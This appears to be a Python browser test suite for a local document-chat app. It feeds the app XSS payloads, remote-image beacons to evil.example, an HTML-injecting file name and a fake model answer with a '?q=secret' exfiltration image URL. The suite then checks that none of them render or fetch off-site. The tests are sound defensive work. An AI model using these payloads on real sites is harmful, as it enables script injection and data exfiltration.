"""The app as a user has it: a real server, a real browser, a real library, and documents that mean harm."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pymupdf
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WAIT_MS = 60_000
expect.set_options(timeout=WAIT_MS)
EVIL_NAME = "<img src=x onerror=alert(1)>.pdf"

HOSTILE = """\
# The beacon ![h](http://evil.example/h.png)

The beacon frequency is 42 kHz. </mark><script>alert(1)</script>
<img src="http://evil.example/i.png" onerror="alert(2)">
![inline](http://evil.example/inline.png) ![ref][r] [click](javascript:alert(3)) <http://evil.example/auto>
www.evil.example spy@evil.example //evil.example/x.png ![data](data:image/svg+xml;base64,PHN2Zz4=)
:material/delete: :red[colour] :smile: $\\href{http://evil.example}{latex}$ costs $5 or $6 :streamlit:

| a | b |
|---|---|
| ![t](http://evil.example/t.png) | <iframe src="http://evil.example"></iframe> |

```mermaid
graph TD; A-->B
```

[r]: http://evil.example/ref.png
[beacon.md, lines 1-20]: http://evil.example/marker.png
"""
OBEDIENT = (
    "The beacon frequency is 42 kHz [1]. ![x](http://evil.example/model.png?q=secret) <script>alert(4)</script> "
    "[here](http://evil.example/link) <img src=http://evil.example/m2.png> $x$ :red[x] www.evil.example\n\n"
    "![r][z]\n\n[z]: http://evil.example/z.png"
)


class FakeOllama(BaseHTTPRequestHandler):
    """Answers as Ollama does. A question with `slowly` is answered word by word without end."""

    def do_GET(self) -> None:
        reply = {"version": "0.0.0"} if self.path == "/api/version" else {"models": [{"name": "llama3.2:3b"}]}
        self._begin()
        self.wfile.write(json.dumps(reply).encode())

    def do_POST(self) -> None:
        asked = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self._begin()
        try:
            if "slowly" in asked:
                for _ in range(600):
                    self._say("The beacon blinks. ")
                    time.sleep(0.1)
            else:
                self._say(OBEDIENT)
            self._say("", done=True)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True  # the reader pressed Stop

    def _begin(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/x-ndjson")
        self.end_headers()

    def _say(self, text: str, *, done: bool = False) -> None:
        part = {"model": "m", "message": {"role": "assistant", "content": text}, "done": done}
        self.wfile.write(json.dumps(part).encode() + b"\n")
        self.wfile.flush()

    def log_message(self, format: str, *args: object) -> None:
        """Keeps the test's output clean."""


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture(scope="module")
def ollama() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeOllama)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def base(ollama: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a running app with an empty library."""
    port = free_port()
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("LOCALRAG_", "STREAMLIT_"))}
    data = tmp_path_factory.mktemp("data")
    process = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "Welcome.py", "--server.headless=true", f"--server.port={port}"],
        cwd=ROOT,
        env={**kept, "LOCALRAG_DATA_DIR": str(data), "OLLAMA_HOST": ollama},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    address = f"http://127.0.0.1:{port}"
    try:
        _wait_for(address)
        yield address
    finally:
        process.terminate()
        process.wait(timeout=30)


def _wait_for(address: str) -> None:
    for _ in range(300):
        try:
            urllib.request.urlopen(f"{address}/_stcore/health", timeout=1)
        except OSError:
            time.sleep(0.2)
        else:
            return
    raise AssertionError("the app did not start")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield running
        running.close()


class Tab:
    """A tab that notes every request and every script dialog."""

    def __init__(self, context: BrowserContext, base: str) -> None:
        self.base = base
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        context.on("request", lambda request: self.requests.append(request.url))
        self.page: Page = context.new_page()
        self.page.set_default_timeout(WAIT_MS)
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def open(self, path: str = "") -> Page:
        self.page.goto(f"{self.base}/{path}")
        expect(self.page.locator("h1").first).to_be_visible()
        return self.page

    def upload(self, *files: Path) -> None:
        page = self.open("Upload_Documents")
        page.set_input_files("input[type=file]", [str(file) for file in files])
        expect(page.get_by_text("Files read:")).to_be_visible()

    def ask(self, question: str) -> Page:
        box = self.page.get_by_test_id("stChatInputTextArea")
        expect(box).to_be_enabled()
        box.fill(question)
        box.press("Enter")
        return self.page

    def off_origin(self) -> list[str]:
        return [url for url in self.requests if not url.startswith((self.base, "data:", "blob:"))]


@pytest.fixture
def tab(browser: Browser, base: str) -> Iterator[Tab]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield Tab(context, base)
    context.close()


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """A Markdown file full of payloads and a PDF with a hostile name."""
    folder = tmp_path_factory.mktemp("files")
    (folder / "beacon.md").write_text(HOSTILE, encoding="utf-8")
    document = pymupdf.open()
    for sentence in ("The harbour opens at dawn.", "The lighthouse stands on Skerry island.", "Gulls nest in May."):
        document.new_page().insert_text((72, 72), sentence)
    document.save(folder / EVIL_NAME)
    return [folder / "beacon.md", folder / EVIL_NAME]


def foreign_elements(page: Page) -> list[str]:
    """What harmful text could have become: remote or broken images, frames, links, formulas, icons in the text."""
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll('main *, [role=dialog] *')]
            .filter(e => (e.tagName === 'IMG' && !e.src.startsWith(location.origin))
                || e.tagName === 'IFRAME' || e.hasAttribute('onerror')
                || (e.tagName === 'SCRIPT' && !e.closest('[class*=st-key-scroll_to_]'))
                || (e.tagName === 'A' && e.href && !e.href.startsWith(location.origin))
                || e.classList.contains('katex') || (e.getAttribute('aria-label') || '').includes('delete icon'))
            .map(e => e.outerHTML.slice(0, 200))"""
    )
    return found


def test_documents_names_and_the_model_cannot_make_the_page_do_anything(tab: Tab, files: list[Path]) -> None:
    tab.upload(*files)
    page = tab.page
    expect(page.get_by_text(EVIL_NAME).first).to_be_visible()
    assert foreign_elements(page) == []
    tab.open("Chat")
    tab.ask("What is the beacon frequency?")
    expect(page.get_by_text("High confidence").or_(page.get_by_text("Medium confidence")).or_(
        page.get_by_text("Low confidence")).first).to_be_visible()  # fmt: skip
    expect(page.get_by_text("Sources (1)")).to_be_visible()
    page.get_by_text("Also retrieved").first.click()
    page.get_by_role("button", name="Show text").first.click()
    expect(page.get_by_role("dialog").get_by_text("The beacon frequency is 42 kHz.").first).to_be_visible()
    expect(page.get_by_role("dialog").get_by_text("costs $5 or $6")).to_be_visible()
    page.wait_for_timeout(500)  # what would be fetched is fetched by now
    assert foreign_elements(page) == []
    assert tab.dialogs == []
    assert tab.off_origin() == []
    tab.open()
    assert tab.off_origin() == []


def test_a_cited_page_is_shown_with_its_quote_marked(tab: Tab, files: list[Path]) -> None:
    tab.upload(*files)
    page = tab.open("Chat")
    page.get_by_text("Write answers with the model").click()
    tab.ask("Where does the lighthouse stand?")
    expect(page.get_by_text("Quoted, no model")).to_be_visible()
    source = page.locator("[class*=st-key-sources_]").first
    expect(source.get_by_text(f"[{EVIL_NAME}, p.2]").first).to_be_visible()
    source.get_by_role("button", name="Show page").first.click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_text("Marked on the page:")).to_be_visible()
    picture = dialog.locator("img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.naturalWidth") > 500
    assert tab.dialogs == []
    assert tab.off_origin() == []


def test_a_refresh_keeps_the_conversation_and_stop_keeps_what_was_said(tab: Tab, files: list[Path]) -> None:
    tab.upload(*files)
    page = tab.open("Chat")
    tab.ask("What is the beacon frequency?")
    expect(page.get_by_text("Sources (1)")).to_be_visible()
    tab.ask("Tell me slowly about the beacon")
    expect(page.get_by_text("The beacon blinks.").first).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    address = page.url
    assert "c=" in address
    page.reload()
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    expect(page.get_by_text("The beacon blinks.").first).to_be_visible()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(4)
    assert page.url == address


def test_the_question_stands_at_the_top_when_its_answer_is_there(tab: Tab, files: list[Path]) -> None:
    tab.upload(*files)
    page = tab.open("Chat")
    page.get_by_text("Write answers with the model").click()
    for number in (1, 2, 3):
        tab.ask("What is the beacon frequency, and where does the lighthouse stand?")
        expect(page.get_by_test_id("stChatMessage")).to_have_count(2 * number)
        expect(page.get_by_text("Also retrieved")).to_have_count(number)
        page.wait_for_timeout(3000)  # longer than the page goes on moving
        box = page.get_by_test_id("stChatMessage").nth(-2).bounding_box()
        assert box is not None
        assert 0 <= box["y"] < 300


def test_the_bin_of_a_row_deletes_that_document_after_asking(tab: Tab, files: list[Path]) -> None:
    tab.upload(*files)
    page = tab.page
    table = page.locator("[class*=st-key-documents_] canvas").first
    box = table.bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + box["width"] - 30, box["y"] + 35 + 17)  # the last column of the first row
    expect(page.get_by_text("from the library? Files in your own folders stay.")).to_contain_text(EVIL_NAME)
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_text("Deleted 1 document")).to_be_visible()
    expect(page.get_by_text("1 document. Tick one")).to_be_visible()


def status_of(request: urllib.request.Request) -> int:
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return int(reply.status)
    except urllib.error.HTTPError as error:
        return error.code


def handshake(base: str, **headers: str) -> int:
    """The status with which a web socket is answered: 101 when it is opened."""
    host, _, port = base.removeprefix("http://").partition(":")
    wanted = {
        "Host": f"{host}:{port}",
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version": "13",
        **headers,
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in wanted.items())
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(f"GET /_stcore/stream HTTP/1.1\r\n{lines}\r\n".encode())
        return int(connection.recv(64).split()[1])


def test_other_sites_and_other_names_are_turned_away(base: str) -> None:
    port = base.rpartition(":")[2]
    assert handshake(base, Origin=base) == 101
    assert handshake(base, Origin="http://evil.example") == 403
    assert handshake(base, Host=f"evil.example:{port}", Origin=f"http://evil.example:{port}") == 403


def test_an_upload_without_the_token_is_refused(base: str) -> None:
    url = f"{base}/_stcore/upload_file/session/file"
    assert status_of(urllib.request.Request(url, data=b"x", method="PUT")) == 403


def test_the_server_listens_on_this_machine_only(base: str) -> None:
    port = int(base.rpartition(":")[2])
    lines = [line.split() for line in Path("/proc/net/tcp").read_text(encoding="ascii").splitlines()[1:]]
    local = [fields[1].split(":") for fields in lines if fields[3] == "0A"]
    listening = {address for address, number in local if int(number, 16) == port}
    assert listening == {"0100007F"}, "127.0.0.1, in the kernel's notation"
